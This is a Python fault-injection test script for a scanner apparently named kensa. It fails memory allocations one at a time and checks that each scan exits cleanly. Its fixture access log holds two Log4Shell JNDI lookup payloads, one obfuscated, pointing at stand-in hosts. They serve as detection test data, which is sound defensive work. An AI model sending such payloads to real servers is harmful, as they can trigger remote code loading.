#!/usr/bin/env python3
"""run.py - out-of-memory fault injection over a small scan.

Each run below is first made with tests/faults/failalloc.so preloaded in
counting mode, which gives K, the number of allocations the run makes once
main() has started.  Then the run is repeated with allocation N failing
(malloc and friends return NULL, errno ENOMEM), for N over 1..K, and each
repetition must end as a scan may end: exit status 0, 1 or 2, never a
signal or a timeout, nothing from AddressSanitizer, LeakSanitizer or
UBSan on stderr (a leak or a bad access under `make asan`), and when the
status differs from the run without a failure, a word why (a "kensa:"
line on stderr or an error record).  Confinement stays on, as in real
use.

Which N: every N among the first HEAD and the last TAIL allocations, and a
stride across the middle so that it takes at most MID runs.  About 5,350
of the ~5,600 allocations of a run are start-up (OpenSSL's configuration,
the seccomp filter) and sit in the middle; option parsing comes first,
the scan and the reports are the last ~250: all covered.
KENSA_FAULTS_ALL=1 tries every N.  Two upstream bugs are set apart (see
below): libseccomp's hang and the unchecked start-up of OpenSSL and libyara.

One TAP line per run; a failure names N and the failing allocation's
caller (OBJECT+OFFSET: `addr2line -e OBJECT OFFSET`).  Environment as
tests/run.sh sets it: KENSA, KENSA_BUILD, KENSA_TOP.
"""
import concurrent.futures as cf
import os
import re
import shutil
import subprocess
import sys
import tempfile

HEAD, TAIL, MID = 200, 600, 200
TIMEOUT = 15

kensa = os.environ.get('KENSA', 'build/kensa')
build = os.environ.get('KENSA_BUILD', os.path.dirname(kensa))
top = os.environ.get('KENSA_TOP', os.path.join(os.path.dirname(__file__), '..', '..'))
shim = os.path.join(build, 'tests', 'faults', 'failalloc.so')
exhaustive = os.environ.get('KENSA_FAULTS_ALL') == '1'

RUNS = [  # name, arguments after kensa (DIR: the fixtures, OUT: scratch)
    ('log4j', ['log4j', '--threads', '1', 'DIR']),
    ('log4j --csv', ['log4j', '--threads', '1', '--csv', '--all', 'DIR']),
    ('logs', ['logs', '--threads', '1', '--export-iocs', 'OUT/iocs.csv', 'DIR']),
    ('logs --json', ['logs', '--threads', '1', '--json', '--export-iocs', 'OUT/iocs.json', 'DIR']),
    ('scan', ['scan', '--threads', '1', '--json', 'DIR']),
    ('log4j --fix --dry-run', ['log4j', '--threads', '1', '--fix', '--dry-run', 'DIR']),
]
SANITIZER = re.compile(r'AddressSanitizer|LeakSanitizer|runtime error:|'
                       r'UndefinedBehaviorSanitizer')

if not os.path.exists(shim) or not os.path.exists(kensa):
    print('1..1\nok 1 - fault injection # skip %s not built' % shim)
    sys.exit(0)

tmp = tempfile.mkdtemp(prefix='kensa-faults-')
fx = os.path.join(tmp, 'fx')
data = os.path.join(tmp, 'data')
os.makedirs(data)
subprocess.run([sys.executable, os.path.join(top, 'tests', 'gen', 'mkfixtures.py'), fx],
               check=True, stdout=subprocess.DEVNULL)
# a war holding a jar holding log4j-core 2.14.1, a tarball holding one,
# and a log with two attacks (one obfuscated)
shutil.copy(os.path.join(fx, 'nested', 'app.war'), data)
shutil.copy(os.path.join(fx, 'nested', 'image.tar.gz'), data)
with open(os.path.join(data, 'access.log'), 'w') as f:
    f.write('10.0.0.1 - - [10/Dec/2021:10:00:00 +0000] "GET /?x=${jndi:ldap://'
            'evil.example/a} HTTP/1.1" 200 1\nplain line\n'
            '10.0.0.2 - - [10/Dec/2021:10:00:01 +0000] "GET /?x=${${lower:j}ndi:'
            'rmi://x.example:1099/b} HTTP/1.1" 200 1\n')
shutil.rmtree(fx)


def run(args, fail_at, slot, trace=None):
    """One run of kensa; returns (status, stderr, whether kensa said
    something went wrong (a warning or an error), shim report)."""
    out = os.path.join(tmp, 'out%d' % slot)
    os.makedirs(out, exist_ok=True)
    argv = [kensa] + [a.replace('DIR', data).replace('OUT', out) for a in args]
    env = dict(os.environ)
    env['LD_PRELOAD'] = shim
    env['KENSA_FAIL_AT'] = str(fail_at)
    env['ASAN_OPTIONS'] = ':'.join(filter(None, [
        env.get('ASAN_OPTIONS', ''), 'verify_asan_link_order=0']))
    rfd, wfd = os.pipe()
    env['KENSA_FAIL_REPORT'] = str(wfd)
    fds = [wfd]
    if trace is not None:
        env['KENSA_FAIL_TRACE'] = str(trace.fileno())
        fds.append(trace.fileno())
    try:
        p = subprocess.run(argv, env=env, stdout=subprocess.PIPE,
                           stderr=subprocess.PIPE, pass_fds=fds,
                           timeout=TIMEOUT)
        status, err = p.returncode, p.stderr.decode(errors='replace')
        # libarchive's own words before it exits(1) on some failures
        said = ('kensa:' in err or b'"error":' in p.stdout or
                'Fatal Internal Error in libarchive' in err)
    except subprocess.TimeoutExpired as e:
        status, said = 'timeout', False
        err = (e.stderr or b'').decode(errors='replace')
    finally:
        os.close(wfd)
    with os.fdopen(rfd) as r:
        report = r.read()
    return status, err, said, report


def plan(k):
    if exhaustive or k <= HEAD + TAIL + MID:
        return list(range(1, k + 1))
    head = list(range(1, HEAD + 1))
    tail = list(range(k - TAIL + 1, k + 1))
    mid_lo, mid_hi = HEAD + 1, k - TAIL
    stride = max(1, -(-(mid_hi - mid_lo + 1) // MID))
    return head + list(range(mid_lo, mid_hi + 1, stride)) + tail


def check(status, err, said=True, base=None):
    """None if the run ended as a scan may end, else why not."""
    if status == 'timeout':
        return 'no exit after %d s' % TIMEOUT
    if status < 0:
        return 'killed by signal %d' % -status
    if status not in (0, 1, 2):
        return 'exit status %d' % status
    m = SANITIZER.search(err)
    if m:
        return 'sanitizer: ' + m.group(0)
    if base is not None and status != base and not said:
        return 'exit status %d and not a word why' % status
    return None


results = []
jobs = os.cpu_count() or 2
for name, args in RUNS:
    with open(os.path.join(tmp, 'trace'), 'w+') as trace:
        status, err, _, report = run(args, 0, 0, trace)
        trace.seek(0)
        callers = dict(line.split(' ', 1) for line in trace.read().splitlines())
    m = re.search(r'allocations (\d+)', report)
    why = check(status, err)
    if not m or why:
        results.append((False, '%s: counting run: status %s, %s' % (name, status, why or report.strip())))
        continue
    k, base = int(m.group(1)), status
    # Upstream bugs kensa cannot work around.  libseccomp 2.5.4's
    # seccomp_load() loops forever when one of its own allocations fails:
    # left out.  OpenSSL 3.0 does not check some allocations of its
    # one-time set-up (what libcrypto allocates before the seccomp filter
    # is built: kensa's first sha256 and openssl.cnf), and then takes a
    # NULL lock or leaks: such an N is run, and anything but a hang passes.
    # libyara 4.2's rule compiler (yr_compiler_*, run once at start-up on
    # the built-in pack, before any file is read) does not check all of
    # its allocations either and aborts: tolerated the same way - no
    # report is written, so no false clean (compiling the pack at build
    # time removes it; docs/DESIGN.md, "YARA").
    who = [callers.get(str(n), '') for n in range(1, k + 1)]
    upstream = {n for n in range(1, k + 1) if 'libseccomp' in who[n - 1]}
    end = min(upstream or {k})
    openssl = {n for n in range(1, end)
               if 'libcrypto' in who[n - 1] or 'libyara' in who[n - 1]}
    ns = [n for n in plan(k) if n not in upstream]
    tolerated = 0
    bad = []
    with cf.ThreadPoolExecutor(jobs) as ex:
        futs = {ex.submit(run, args, n, i % (jobs * 4)): n for i, n in enumerate(ns)}
        for f in cf.as_completed(futs):
            n = futs[f]
            status, err, said, report = f.result()
            why = check(status, err, said, base)
            if why and n in openssl and status != 'timeout':
                tolerated += 1
            elif why:
                caller = callers.get(str(n), '?')
                tail = err.strip().splitlines()[-3:]
                bad.append((n, why, caller, tail))
    bad.sort()
    results.append((not bad, '%s: K=%d allocations, %d of them failed in turn%s'
                    '; %d in libseccomp left out; %d crashes or leaks in '
                    'OpenSSL\'s and libyara\'s set-up (N=%d..%d) let pass' % (
        name, k, len(ns), '' if exhaustive else
        ' (every N <= %d and > %d, a stride between)' % (HEAD, k - TAIL),
        len(upstream), tolerated, min(openssl or {0}), max(openssl or {0}))))
    for n, why, caller, tail in bad:
        results.append((False, '%s: allocation %d failing (%s): %s' % (name, n, caller, why)))
        for line in tail:
            results.append((None, line))

shutil.rmtree(tmp, ignore_errors=True)
total = sum(1 for ok, _ in results if ok is not None)
print('1..%d' % total)
i = 0
for ok, text in results:
    if ok is None:
        print('#   ' + text)
        continue
    i += 1
    print('%s %d - fault injection %s' % ('ok' if ok else 'not ok', i, text))
sys.exit(0 if all(ok is not False for ok, _ in results) else 1)
